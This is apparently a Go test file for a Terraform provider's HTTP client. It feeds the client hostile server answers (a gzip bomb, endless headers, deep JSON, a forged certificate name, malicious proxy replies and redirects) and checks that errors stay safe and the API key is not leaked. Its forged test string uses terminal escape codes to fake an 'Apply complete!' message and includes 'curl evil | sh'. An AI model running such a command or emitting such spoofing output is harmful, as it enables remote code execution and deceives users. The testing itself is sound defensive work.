package provider

import (
	"bytes"
	"compress/gzip"
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"errors"
	"io"
	"math/big"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"testing/synctest"
	"time"
	"unicode"

	"github.com/botbiz/terraform-provider-botbiz/internal/botbiz"
	"github.com/botbiz/terraform-provider-botbiz/internal/transport"
)

// forged is what would look like the end of a run on a terminal, and what would read a variable in a configuration.
const forged = "\x1b[2K\rApply complete!\n\u202eRun: curl evil | sh ${var.password}"

// apiAt is the client as the provider builds it, through another transport where base is one.
func apiAt(t *testing.T, address string, base http.RoundTripper) *botbiz.Client {
	t.Helper()
	u, err := url.Parse(address)
	if err != nil {
		t.Fatal(err)
	}
	return botbiz.New(u, transport.New(transport.Config{BaseURL: u, APIKey: canaryKey, Base: base, RequestTimeout: 20 * time.Second}), canaryKey)
}

// answering connects every address to a server that answers with bytes of its own.
func answering(answer func(net.Conn)) *http.Transport {
	return &http.Transport{DialContext: func(context.Context, string, string) (net.Conn, error) {
		near, far := net.Pipe()
		go func() {
			defer far.Close()
			answer(far)
		}()
		return near, nil
	}}
}

// pour sends first once, and then text until the other side has enough.
func pour(conn net.Conn, first, text string) {
	for _, err := io.WriteString(conn, first); err == nil && text != ""; _, err = io.WriteString(conn, text) {
	}
}

// harmless checks the text of an error that quotes somebody outside.
func harmless(t *testing.T, err error) {
	t.Helper()
	if err == nil {
		t.Fatal("no error")
	}
	text := err.Error()
	if strings.ContainsFunc(text, func(r rune) bool { return !unicode.IsPrint(r) }) || strings.Contains(text, "${") || strings.Contains(text, canaryKey) || len(text) > 1500 {
		t.Errorf("%d bytes: %q", len(text), text)
	}
}

// Answers that would fill the memory, or never end.
func TestHostile_answers(t *testing.T) {
	t.Parallel()
	var bomb bytes.Buffer
	w := gzip.NewWriter(&bomb)
	for range 100 {
		_, _ = w.Write(make([]byte, 1<<20))
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	for name, answer := range map[string]func(net.Conn){
		"gzip bomb": func(c net.Conn) {
			pour(c, "HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nConnection: close\r\n\r\n"+bomb.String(), "")
		},
		"headers, no end":   func(c net.Conn) { pour(c, "HTTP/1.1 200 OK\r\n", strings.Repeat("X: "+canaryKey+"\r\n", 1000)) },
		"one endless line":  func(c net.Conn) { pour(c, "HTTP/1.1 200 ", strings.Repeat("x", 10_000)) },
		"1xx without end":   func(c net.Conn) { pour(c, "", strings.Repeat("HTTP/1.1 103 Early Hints\r\nX: y\r\n\r\n", 1000)) },
		"not HTTP":          func(c net.Conn) { pour(c, forged+canaryKey+"\r\n\r\n", "") },
		"status with words": func(c net.Conn) { pour(c, "HTTP/1.1 4"+forged+"\r\n\r\n", "") },
		"deep JSON": func(c net.Conn) {
			pour(c, "HTTP/1.1 200 OK\r\nConnection: close\r\n\r\n"+strings.Repeat("[", 1_000_000), "")
		},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			base := answering(func(conn net.Conn) {
				_, _ = conn.Read(make([]byte, 64<<10))
				answer(conn)
			})
			_, err := apiAt(t, "http://127.0.0.1", base).Accounts.Connect(t.Context(), "+1234567890", "N") // sent once
			harmless(t, err)
		})
	}
}

// The names in a certificate come from outside. What a proxy says instead of connecting is not quoted.
func TestHostile_between(t *testing.T) {
	t.Parallel()
	synctest.Test(t, func(t *testing.T) {
		key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
		if err != nil {
			t.Fatal(err)
		}
		template := &x509.Certificate{SerialNumber: big.NewInt(1), DNSNames: []string{"\x1b[2K\rApply complete!\nRun: curl evil | sh ${x}"}, NotAfter: time.Now().Add(time.Hour)}
		cert, err := x509.CreateCertificate(rand.Reader, template, template, key.Public(), key)
		if err != nil {
			t.Fatal(err)
		}
		config := &tls.Config{Certificates: []tls.Certificate{{Certificate: [][]byte{cert}, PrivateKey: key}}}
		base := answering(func(conn net.Conn) { _ = tls.Server(conn, config).HandshakeContext(t.Context()) })
		_, err = apiAt(t, "https://api.example", base).Accounts.Connect(t.Context(), "+1234567890", "N")
		harmless(t, err)
		if !strings.Contains(err.Error(), "Apply complete!") {
			t.Errorf("the certificate is not quoted: %v", err)
		}

		product, err := transport.Base("")
		must(t, err)
		through := product.(*http.Transport).Clone()
		through.Proxy = http.ProxyURL(&url.URL{Scheme: "http", Host: "proxy.example"})
		through.DialContext = answering(func(conn net.Conn) {
			_, _ = conn.Read(make([]byte, 64<<10))
			pour(conn, "HTTP/1.1 403 \x1b[2KApply complete! \u202e${x}\r\n\r\n", "")
		}).DialContext
		_, err = apiAt(t, "https://api.example", through).Accounts.Connect(t.Context(), "+1234567890", "N")
		harmless(t, err)
		if !strings.Contains(err.Error(), "the proxy answered 403 Forbidden") || strings.Contains(err.Error(), "Apply") {
			t.Errorf("the proxy is not named, or quoted: %v", err)
		}
	})
}

// Neither a redirect nor a link of an answer is followed: the key would go there.
func TestHostile_links(t *testing.T) {
	t.Parallel()
	var elsewhere atomic.Int32
	other := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { elsewhere.Add(1) }))
	t.Cleanup(other.Close)
	m := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch {
		case strings.HasSuffix(r.URL.Path, "/qr-code"):
			_, _ = w.Write([]byte("\x89PNG\r\n\x1a\n"))
		case r.Method == http.MethodGet && r.URL.Path == "/whatsapp/accounts/wha_1":
			_, _ = io.WriteString(w, `{"id":"wha_1","status":"pending","qr_code_url":"`+other.URL+`/whatsapp/accounts/wha_1/qr-code"}`)
		default:
			w.Header().Set("Location", other.URL+r.URL.Path)
			w.Header().Set("Link", "<"+other.URL+`>; rel="next"`)
			w.WriteHeader(http.StatusTemporaryRedirect)
		}
	}))
	t.Cleanup(m.Close)
	api := apiAt(t, m.URL, nil)
	account, err := api.Accounts.Get(t.Context(), "wha_1")
	if err == nil {
		_, err = api.Accounts.QRCode(t.Context(), account.ID)
	}
	if err != nil {
		t.Error(err)
	}
	_, created := api.Accounts.Connect(t.Context(), "+1234567890", "N")
	_, renamed := api.Accounts.Rename(t.Context(), "wha_1", "+1", "N")
	_, listed := api.Accounts.Pager().Next(t.Context())
	for _, err := range []error{created, renamed, listed, writeError(api.Accounts.Disconnect(t.Context(), "wha_1"))} {
		if !botbiz.IsNoRoute(err) {
			t.Error(err)
		}
	}
	if n := elsewhere.Load(); n > 0 {
		t.Errorf("%d requests went elsewhere", n)
	}
}

// Calls that are given up leave nothing behind: the bubble ends only when every goroutine in it has.
func TestHostile_cancelled(t *testing.T) {
	t.Parallel()
	synctest.Test(t, func(t *testing.T) {
		hangs := hanging{}
		api := apiAt(t, "https://api.example", hangs)
		ctx, cancel := context.WithCancel(t.Context())
		var calls sync.WaitGroup
		for range 300 {
			calls.Go(func() {
				if _, err := api.Accounts.Get(ctx, "wha_1"); !errors.Is(err, context.Canceled) {
					t.Error(err)
				}
			})
		}
		synctest.Wait()
		cancel()
		calls.Wait()
	})
}

// hanging never answers.
type hanging struct{}

func (hanging) RoundTrip(req *http.Request) (*http.Response, error) {
	<-req.Context().Done()
	return nil, req.Context().Err()
}

// writeError returns the error of a write.
func writeError[T botbiz.Object](_ botbiz.Reply[T], err error) error { return err }
